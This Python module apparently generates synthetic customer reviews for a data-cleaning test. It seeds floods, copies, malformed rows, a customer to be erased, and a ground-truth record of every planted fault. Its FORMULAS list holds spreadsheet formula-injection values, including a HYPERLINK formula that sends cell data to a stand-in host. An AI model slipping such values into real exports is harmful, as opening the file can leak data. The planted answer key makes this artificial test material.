"""Reviews: one text on one item by one customer."""

from __future__ import annotations

import html
from datetime import datetime, timedelta
from random import Random
from typing import Any

from sample.customers import Customer
from sample.files import CsvFile
from sample.language import mood
from sample.scene import Draft, Said, Scene
from sample.shop import moment
from sample.story import WEEKLY, planned_topics

COLUMNS = (
    "review_id",
    "item_id",
    "user_id",
    "stars",
    "headline",
    "body",
    "channel",
    "country",
    "written_at",
    "url",
)
CHANNELS = {"web": 55, "app": 30, "marketplace": 15}
FLOOD_SIZE, COPIES_SIZE = 60, 42
FORMULAS = ("=SUM(A1:A9)", '=HYPERLINK("http://example.com/?x="&A1)', "+1+1", "@SUM(1+9)*cmd", "=1+1", "-2+3")
BROKEN = ("wrong_field_count", "text_after_quote", "open_quote", "wrong_field_count")
NO_DATES = (
    "2026-02-31T10:15:00",
    "",
    "0000-00-00T00:00:00",
    "31.13.2026",
    "1899-12-31T00:00:00",
    "2031-05-04T12:00:00",
)
NO_STARS = ("11", "0", "-1", "five", "6", "")


def add_reviews(scene: Scene, week: int, file: CsvFile) -> None:
    """Write a week of reviews into the file."""
    rng = scene.rng("reviews", week)
    drafts = _ordinary(scene, week, rng) + _floods(scene, week, rng) + _erased(scene, week, rng)
    for draft in drafts:
        draft.marks.setdefault("stars", _stars(draft, rng))
        draft.marks.setdefault("headline", _headline(scene, draft, rng))
        draft.marks.setdefault("body", _body(draft, rng))
        draft.marks["channel"] = rng.choices(list(CHANNELS), list(CHANNELS.values()))[0]
    drafts.sort(key=lambda draft: (draft.at, draft.customer.user_id, draft.item or ""))
    quiet = [
        draft
        for draft in drafts
        if draft.said
        and not draft.private
        and not draft.marks.keys() & {"flood", "copies", "erased", "again"}
    ]
    _make_odd(quiet, week, rng)
    spoiled = rng.choice(quiet)
    for draft in drafts:
        _enter(scene, draft, file)
        if draft is spoiled:
            _enter_broken(scene, week, draft, file, rng)
    if week % 4 == 2:
        even = [draft for draft in quiet if "odd" not in draft.marks]
        _enter_edited(scene, week, rng.choice(even), file, rng)


def _ordinary(scene: Scene, week: int, rng: Random) -> list[Draft]:
    jobs = planned_topics(scene.story, week, "reviews", scene.mended_from, rng)
    jobs += [(None, None)] * (WEEKLY["reviews"] + rng.randint(-8, 8) - len(jobs))
    drafts = []
    for topic, item in jobs:
        about = scene.order_about(week, topic, item, rng)
        at = scene.in_week(week, rng)
        customer, item, order = about
        if order is None and item == scene.story.loved_item:
            continue
        if topic is None and rng.random() < 0.1:
            drafts.append(_plain(scene, at, customer, item, rng))
            continue
        count = rng.choices([1, 2, 3], [42, 40, 18])[0]
        if topic == scene.story.loved_topic and item == scene.story.loved_item:
            count = 1
        chosen = scene.more_topics("reviews", topic, item, count, rng)
        said = scene.say(customer, item, chosen, rng)
        if rng.random() < 0.35:
            said.insert(rng.choice([0, 0, len(said)]), scene.detail(customer, rng))
        draft = Draft(at, customer, item, order, said)
        if order is not None and scene.story.returns_topic in chosen:
            scene.shop.mentioned(order, at, rng)
        if item == scene.story.loved_item:
            draft.marks.update(loved=True, stars=5 if rng.random() < 0.9 else 4)
        drafts.append(draft)
    for draft in rng.sample([draft for draft in drafts if "body" not in draft.marks], 4):
        scene.let_slip(draft, rng)
    if week % 3 == 1:
        drafts += _again(
            scene, rng.choice([draft for draft in drafts if draft.said and draft.order]), week, rng
        )
    return drafts


def _plain(scene: Scene, at: datetime, customer: Customer, item: str, rng: Random) -> Draft:
    """A review of a word or two, or of none."""
    stars = rng.choices([5, 4, 3, 2, 1], [45, 25, 14, 8, 8])[0]
    if rng.random() < 0.04:
        return Draft(at, customer, item, None, [], marks={"stars": stars, "headline": "", "body": ""})
    text = scene.writers[customer.language].plain(stars, rng)
    polarity = {"good": 1, "middling": 0, "bad": -1}[mood(stars)]
    return Draft(
        at,
        customer,
        item,
        None,
        [Said(text, None, polarity)],
        marks={"stars": stars, "body": text, "short": True},
    )


def _again(scene: Scene, draft: Draft, week: int, rng: Random) -> list[Draft]:
    """The same author's same text, once or twice more."""
    draft.marks.update(body=_body(draft, rng), stars=_stars(draft, rng), again=week)
    last = scene.start + timedelta(weeks=week + 1, minutes=-1)
    return [
        Draft(
            min(draft.at + timedelta(hours=rng.randint(1, 60)), last),
            draft.customer,
            draft.item,
            draft.order,
            draft.said,
            draft.private,
            dict(draft.marks),
        )
        for _ in range(rng.randint(1, 2))
    ]


def _floods(scene: Scene, week: int, rng: Random) -> list[Draft]:
    """One author who posts all day, and one day of the same long text by many."""
    drafts: list[Draft] = []
    story = scene.story
    members = scene.shop.members(scene.start + timedelta(weeks=week))
    if story.flood_day // 7 == week:
        author = rng.choice([member for member in members if member.language == "en"])
        said = [
            scene.say(author, rng.choice(list(scene.shop.items)), ["service_rude"], rng) for _ in range(12)
        ]
        day = scene.start + timedelta(days=story.flood_day)
        for _ in range(FLOOD_SIZE):
            at = day + timedelta(hours=8, seconds=rng.randrange(14 * 3600))
            item = rng.choice(list(scene.shop.items))
            drafts.append(Draft(at, author, item, None, rng.choice(said), marks={"flood": True, "stars": 1}))
    if story.copies_day // 7 == week:
        day = scene.start + timedelta(days=story.copies_day)
        english = [member for member in members if member.language == "en" and member.voice == "plain"]
        authors = rng.sample(english, COPIES_SIZE)
        item = story.copies_item
        base = [
            *scene.say(authors[0], item, ["value", "fast_delivery", "service_helpful"], rng),
            scene.detail(authors[0], rng),
        ]
        while sum(len(said.sentence.split()) for said in base) < 40:
            base.append(scene.detail(authors[0], rng))
        for author in authors:
            edited = [Said(said.sentence, said.topic, said.polarity) for said in base]
            for changed in rng.sample(edited, rng.randint(0, 2)):
                changed.sentence = _edited(changed.sentence, rng)
            at = moment(day, rng)
            drafts.append(Draft(at, author, item, None, edited, marks={"copies": True, "stars": 5}))
    return drafts


def _edited(sentence: str, rng: Random) -> str:
    """A small change as copyists make it."""
    words = sentence.split()
    place = rng.randrange(1, len(words) - 1)
    change = rng.choice(["really", "twice", "!", "drop"])
    if change == "drop":
        del words[place]
    elif change == "!":
        words[-1] = words[-1].rstrip(".!") + "!!"
    elif change == "twice":
        words.insert(place, words[place])
    else:
        words.insert(place, "really")
    return " ".join(words)


def _erased(scene: Scene, week: int, rng: Random) -> list[Draft]:
    """The customer who will ask to be erased writes twelve times; one text is also another author's."""
    if week % 2 or not 2 <= week <= 24:
        return []
    author = scene.shop.erased
    order = next(order for order in reversed(scene.shop.orders) if order.customer is author)
    at = scene.in_week(week, rng)
    if week == 12:
        other = rng.choice(scene.shop.members(scene.start))
        said = [scene.detail(author, rng), *scene.say(author, order.item, ["value"], rng)]
        marks: dict[str, Any] = {
            "stars": 4,
            "body": " ".join(part.sentence for part in said),
            "erased": "shared",
        }
        shared = Draft(at, author, order.item, order, said, marks=marks)
        copy = Draft(
            at + timedelta(minutes=7), other, order.item, None, said, marks={**marks, "erased": "other"}
        )
        return [shared, copy]
    mended = scene.mended_from is not None and week >= scene.mended_from
    topic = scene.story.defect_topic if order.item == scene.story.defect_item and not mended else None
    said = scene.say(author, order.item, scene.more_topics("reviews", topic, order.item, 1, rng), rng)
    draft = Draft(at, author, order.item, order, said, marks={"erased": "own"})
    if week in (2, 14, 20):
        marker = erased_marker(scene.seed)
        draft.said.append(Said(f"My reference is {marker} in all letters of week {week}."))
    return [draft]


def erased_marker(seed: int) -> str:
    """A word that only the customer who will be erased writes."""
    return "quibblewick" + "".join(Random(f"{seed}/marker").choices("bcdfghjkmnpqrstvwxz", k=6))


def _stars(draft: Draft, rng: Random) -> int:
    """Stars that go with what is said, but for a few people who see it otherwise."""
    told = [said.polarity for said in draft.said if said.topic]
    stars = 3 + 1.7 * (sum(told) / len(told) if told else 0.5) + rng.gauss(0, 0.6)
    if rng.random() < 0.05:
        stars += rng.choice([-2, 2])
    return min(5, max(1, round(stars)))


def _headline(scene: Scene, draft: Draft, rng: Random) -> str:
    chance = rng.random()
    if chance < 0.15:
        return ""
    first = next((said.topic for said in draft.said if said.topic), None)
    topic = first if chance < 0.7 else None
    return scene.writers[draft.customer.language].headline(topic, draft.marks["stars"], rng)


def _body(draft: Draft, rng: Random) -> str:
    sentences = [said.sentence for said in draft.said]
    if len(sentences) > 3 and rng.random() < 0.4:
        return " ".join(sentences[:2]) + "\n\n" + " ".join(sentences[2:])
    return " ".join(sentences)


def _make_odd(quiet: list[Draft], week: int, rng: Random) -> None:
    """Markup, mis-decoded letters, invisible characters, formulas and template tokens in a few reviews."""
    kinds = ["html", "html", "misdecoded", "zero_width", "formula"] + ["template_token"] * (week % 2)
    for kind, draft in zip(kinds, rng.sample(quiet, len(kinds)), strict=True):
        marks = draft.marks
        body = marks["body"]
        marks["odd"] = kind
        if kind == "html":
            paragraphs = [html.escape(part) for part in body.split("\n\n")]
            marks["body"] = (
                "<p>" + "</p><p>".join(paragraphs) + "</p>" + rng.choice(["<br>", "<br/>&nbsp;", ""])
            )
        elif kind == "misdecoded":
            marks["body"] = f"{body} – it’s café quality".encode().decode("cp1252", errors="replace")
            draft.said.append(Said("– it’s café quality"))
        elif kind == "zero_width":
            marks["body"] = body[:3] + "\u200d" + body[3:].replace(" ", "\u200b ", 2) + "\ufeff"
        elif kind == "formula":
            marks["headline"] = FORMULAS[week % len(FORMULAS)]
        else:
            marks["headline"] = "Thank you, {{customer.first_name}}"


def _enter(scene: Scene, draft: Draft, file: CsvFile) -> None:
    truth, marks = scene.truth, draft.marks
    review = marks["id"] = file.next_id()
    file.add(_row(scene, draft, review))
    truth.note("reviews", review, draft)
    day = draft.at.date().isoformat()
    if "flood" in marks:
        truth.flood.setdefault("author", draft.customer.user_id)
        truth.flood.setdefault("day", day)
        truth.flood.setdefault("documents", []).append(review)
    if "copies" in marks:
        truth.copies.setdefault("day", day)
        truth.copies.setdefault("item", draft.item)
        truth.copies.setdefault("documents", []).append(review)
    if "again" in marks:
        truth.own_repeats.setdefault(marks["again"], []).append(review)
    if "loved" in marks:
        truth.loved.append(review)
    if "odd" in marks:
        truth.oddities.append({"source": "reviews", "document": review, "what": marks["odd"]})
    if "erased" in marks:
        if marks["erased"] == "other":
            truth.erased["shared_with"] = review
        else:
            truth.erased.setdefault("documents", []).append(review)
            if marks["erased"] == "shared":
                truth.erased["shared"] = review


def _row(scene: Scene, draft: Draft, review: str) -> list[str]:
    marks = draft.marks
    return [
        review,
        draft.item or "",
        draft.customer.user_id,
        str(marks["stars"]),
        marks["headline"],
        marks["body"],
        marks["channel"],
        draft.customer.country,
        draft.at.isoformat(),
        f"https://larkfell.example/reviews/{review}",
    ]


def _enter_broken(scene: Scene, week: int, near: Draft, file: CsvFile, rng: Random) -> None:
    """A line that is no record, and rows with an impossible date or rating."""
    writer = scene.writers[near.customer.language]
    fields = _row(scene, near, file.next_id())
    fields[4], fields[5] = "", writer.detail(rng)
    what = BROKEN[week % len(BROKEN)]
    if what == "wrong_field_count":
        line = ",".join(
            [fields[0], *fields[6:]] if week % 8 < 4 else [*fields[:5], "", *fields[6:], "extra", "fields"]
        )
    elif what == "text_after_quote":
        line = ",".join([*fields[:5], f'"{fields[5]}" indeed', *fields[6:]])
    else:
        line = ",".join([*fields[:5], f'"{fields[5]}', *fields[6:]])
    scene.truth.malformed.append(
        {"file": file.name, "line": file.add_line(line), "id": fields[0], "what": what}
    )
    for what, column, values in (("impossible_date", 8, NO_DATES), ("rating_out_of_scale", 3, NO_STARS)):
        fields = _row(scene, near, file.next_id())
        fields[4], fields[5] = "", writer.detail(rng)
        fields[column] = values[week % len(values)]
        line_number = file.add(fields)
        scene.truth.malformed.append(
            {"file": file.name, "line": line_number, "id": fields[0], "what": what, "value": fields[column]}
        )
        scene.truth.documents["reviews"][fields[0]] = [Said(fields[5]).row()]


def _enter_edited(scene: Scene, week: int, draft: Draft, file: CsvFile, rng: Random) -> None:
    """A review that its writer changed later: the same id again, the later row counts."""
    review = draft.marks["id"]
    said = scene.say(draft.customer, draft.item or "", ["value"], rng)
    last = scene.start + timedelta(weeks=week + 1, seconds=-1)
    marks = {**draft.marks, "stars": 4, "body": " ".join(part.sentence for part in said), "headline": ""}
    edited = Draft(last, draft.customer, draft.item, draft.order, said, marks=marks)
    line = file.add(_row(scene, edited, review))
    scene.truth.malformed.append({"file": file.name, "line": line, "id": review, "what": "id_twice"})
    scene.truth.personal = [row for row in scene.truth.personal if row["document"] != review]
    scene.truth.documents["reviews"][review] = [part.row() for part in said]
